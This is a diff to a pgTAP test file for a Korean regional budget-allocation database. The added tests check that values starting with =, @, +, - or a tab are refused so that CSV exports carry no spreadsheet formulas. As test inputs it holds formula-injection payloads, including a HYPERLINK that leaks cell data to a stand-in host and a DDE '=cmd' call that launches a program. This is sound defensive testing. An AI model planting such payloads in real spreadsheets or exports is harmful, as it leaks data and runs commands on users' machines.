@@ -6,7 +6,7 @@ CREATE EXTENSION IF NOT EXISTS pgtap;
 CREATE EXTENSION regionpolicy;
 SET LOCAL search_path = regionpolicy, public;
 SET LOCAL client_min_messages = warning;
-SELECT plan(24);
+SELECT plan(34);
 
 INSERT INTO program (id, ministry, fiscal_year, name_ko) VALUES (5100, 'MSS', 2024, '시험사업'), (5101, 'MSS', 2025, '시험사업');
 
@@ -89,6 +89,49 @@ SELECT throws_ok(format($$INSERT INTO regionpolicy.allocation_entry (program, pr
 SELECT is(ARRAY[unit_won('원'), unit_won('won'), unit_won('WON'), unit_won('EOK'), unit_won('천원')],
 		  ARRAY[1, 1, 1, 100000000, 1000]::bigint[], 'unit_won reads 원 and won, in any case, as round() does');
 SELECT is(round('(123456789,0)'::funding, 'EOK'), round('(123456789,0)'::funding, '억'), 'round(f, ''EOK'') is round(f, ''억'')');
+
+-- Cells a spreadsheet would run as a formula are refused where they are
+-- written, so that allocation_report and its CSV carry none.
+SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference)
+	VALUES ('시험사업', '대구', 2024, '1억원', '=HYPERLINK("http://x/?"&A2,"NB-1")')$$,
+	'23514', NULL, 'a reference beginning with = is refused through allocation_entry');
+SELECT throws_like($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, note)
+	VALUES ('시험사업', '대구', 2024, '1억원', '@SUM(A1:A9)')$$,
+	'note ''@SUM(A1:A9)'' begins with ''@'', which a spreadsheet takes for a formula (row 1: %',
+	'… and a note beginning with @, naming the row');
+SELECT throws_ok($$INSERT INTO regionpolicy.allocation (program_id, province_code, fiscal_year, amount, reference) VALUES (5100, '27', 2024, '(1,0)', '+1')$$,
+	'23514', NULL, 'a reference beginning with + is refused by the table itself');
+SELECT throws_ok($$INSERT INTO regionpolicy.allocation (program_id, province_code, fiscal_year, amount, note) VALUES (5100, '27', 2024, '(1,0)', E'\t=1')$$,
+	'23514', NULL, '… and a note beginning with a tab');
+CREATE TEMP TABLE formula_lines (line integer, LIKE allocation_entry);
+INSERT INTO formula_lines (line, program, province, fiscal_year, amount, reference) VALUES
+	(10, '시험사업', '대구', 2024, '1억원', 'F-1'), (20, '시험사업', '대구', 2024, '2억원', '-2');
+SELECT throws_ok($$SELECT regionpolicy.load_allocations('formula_lines')$$, '23514',
+	'reference ''-2'' begins with ''-'', which a spreadsheet takes for a formula (line 20)',
+	'load_allocations refuses it, naming the line of the source');
+SELECT throws_ok($$INSERT INTO regionpolicy.award_entry (program, reference, recipient, business_number, province, first_year, years, grant_amount)
+	VALUES ('시험사업', 'K-9', '=cmd|'' /C calc''!A0', '220-81-62517', '경남', 2024, 1, '국비 1억원')$$,
+	'23514', NULL, 'an award''s recipient beginning with = is refused');
+SELECT lives_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference, note)
+	VALUES ('시험사업', '대구', 2024, '(1억,0)', 'NB=1', '· 추경 반영 (-3억)')$$,
+	'the same characters inside a value are plain text');
+
+-- The type's own refusals name the row of the statement too.
+SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference) VALUES
+	('시험사업', '대구', 2024, '(1억,0)', 'R-1'), ('시험사업', '대구', 2024, '국비 5억이', 'R-2')$$, '22P02',
+	'invalid input syntax for type funding: "국비 5억이" (row 2: program ''시험사업'', province ''대구'', fiscal year 2024, reference ''R-2'')',
+	'an amount the type refuses names its row');
+SELECT throws_like($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, "national", local, unit, reference) VALUES
+	('시험사업', '대구', 2024, '1,000', '7.979.230', '천원', 'R-3')$$,
+	'invalid local number: "7.979.230" (row 1: %', '… and so do numbers in a unit');
+-- Ending a 시·군·구 that a line still uses names the line.
+INSERT INTO municipality (code, province_code, name_ko, kind, source) VALUES ('48991', '48', '시험시', '시', 'test');
+INSERT INTO allocation (program_id, province_code, municipality_code, fiscal_year, amount, reference)
+VALUES (5101, '48', '48991', 2025, '(1억,0)', 'END-1');
+SELECT throws_ok($$UPDATE regionpolicy.municipality SET valid_to = '2025-01-01' WHERE code = '48991'$$, '23503',
+	format('시·군·구 48991 would no longer exist in fiscal year 2025, where allocation %s lies',
+		   (SELECT id FROM allocation WHERE reference = 'END-1')),
+	'ending a 시·군·구 that a line of a later year uses is refused, naming the line');
 
 -- Award years lie in the award's term.
 SELECT * FROM finish();
